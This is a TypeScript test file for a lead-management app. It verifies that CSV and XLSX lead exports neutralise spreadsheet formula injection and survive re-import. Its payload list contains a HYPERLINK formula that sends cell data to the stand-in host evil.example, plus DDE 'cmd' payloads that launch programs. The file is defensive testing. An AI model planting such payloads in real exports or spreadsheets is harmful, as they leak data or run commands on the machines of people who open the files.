import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { csvLine, exportLeads, importLeads, neutraliseFormula } from '../../engine/lead-files/index.js';
import { describeDialects } from '../support/store-dialects.js';

/**
 * Issue #11 item 3: a lead export opened in a spreadsheet must not run what an attacker typed into a lead. The export
 * and the re-import on both dialects (test/support/store-dialects.ts), through the ports the API's routes use: the
 * lead catalog the export reads, the lead-imports port the import worker writes.
 */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\'/C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

const AT = Date.UTC(2026, 2, 2, 14, 0, 0);
const dir = mkdtempSync(join(tmpdir(), 'centralita-export-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('CSV export neutralises formulas', () => {
  it('prefixes text cells starting with = + - @ tab or CR, and leaves numbers and E.164 phones alone', () => {
    for (const p of PAYLOADS) expect(neutraliseFormula(p)).toBe(`'${p}`);
    for (const plain of ['+50688887777', '-3', '+1.5', 'Ana Mora', 'a=b', '']) expect(neutraliseFormula(plain)).toBe(plain);
    expect(csvLine(['=1+1', -3, '+50688887777', 'x'])).toBe("'=1+1,-3,+50688887777,x\r\n");
    expect(csvLine(['=HYPERLINK("u","c")'])).toBe(`"'=HYPERLINK(""u"",""c"")"\r\n`);
  });
});

describeDialects(
  'lead export neutralises formulas',
  (h) => {
    it('exports hostile lead names and custom fields neutralised in CSV, as plain strings in XLSX, and re-imports them unchanged', async () => {
      await h.seed.campaign('evil', { name: 'evil' }, AT);
      await h.seed.leads(
        PAYLOADS.map((p, i) => ({ campaignId: 'evil', phoneE164: `+5068800000${i}`, phoneRaw: `8800000${i}`, name: p, custom: { note: p } })),
        AT,
      );
      const csvOut = join(dir, `evil-${h.dialect}.csv`);
      expect(await exportLeads(h.leadCatalog, 'evil', 'csv', csvOut)).toBe(PAYLOADS.length);
      const text = readFileSync(csvOut, 'utf8');
      // Every cell of every data row: none starts with a formula character once unquoted (phones are numbers).
      const cells = parseCsv(text.replace(/^\uFEFF/, '')).slice(1).flat();
      const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^\+\d+$/.test(c));
      expect(risky).toEqual([]);
      for (const p of PAYLOADS) expect(cells.filter((c) => c === `'${p}`)).toHaveLength(2); // name and custom note

      const xlsxOut = join(dir, `evil-${h.dialect}.xlsx`);
      await exportLeads(h.leadCatalog, 'evil', 'xlsx', xlsxOut);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(xlsxOut);
      const ws = wb.worksheets[0]!;
      const header = (ws.getRow(1).values as unknown[]).slice(1);
      const nameCol = header.indexOf('name') + 1;
      const names: unknown[] = [];
      ws.eachRow((row, n) => {
        if (n === 1) return;
        const cell = row.getCell(nameCol);
        expect(cell.type).toBe(ExcelJS.ValueType.String); // never a formula cell
        names.push(cell.value);
      });
      // (XML has no bare CR: exceljs writes it as a line feed; the text is otherwise the same, and still text.)
      expect(names.sort()).toEqual(PAYLOADS.map((p) => p.replace(/\r/g, '\n')).sort());

      for (const [id, file] of [['back-csv', csvOut], ['back-xlsx', xlsxOut]] as const) {
        await h.seed.campaign(id, { name: id }, AT);
        const r = await importLeads(h.leadImports, { campaignId: id, input: file, at: AT });
        expect(r.errors).toEqual([]);
        // The importer trims cells, which is all a round trip changes (the leading tab / CR of two payloads).
        const back = (await h.read.leads(id)).map((l) => [l.name, l.custom]);
        expect(back.map(([n]) => n).sort()).toEqual(PAYLOADS.map((p) => p.trim()).sort());
        for (const [n, custom] of back) expect(custom).toEqual({ note: n });
      }
    });
  },
  { prefix: 'ct_pg_suite_export' },
);

/** Minimal RFC 4180 split for the assertions (the product's reader is under test elsewhere). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  return rows;
}
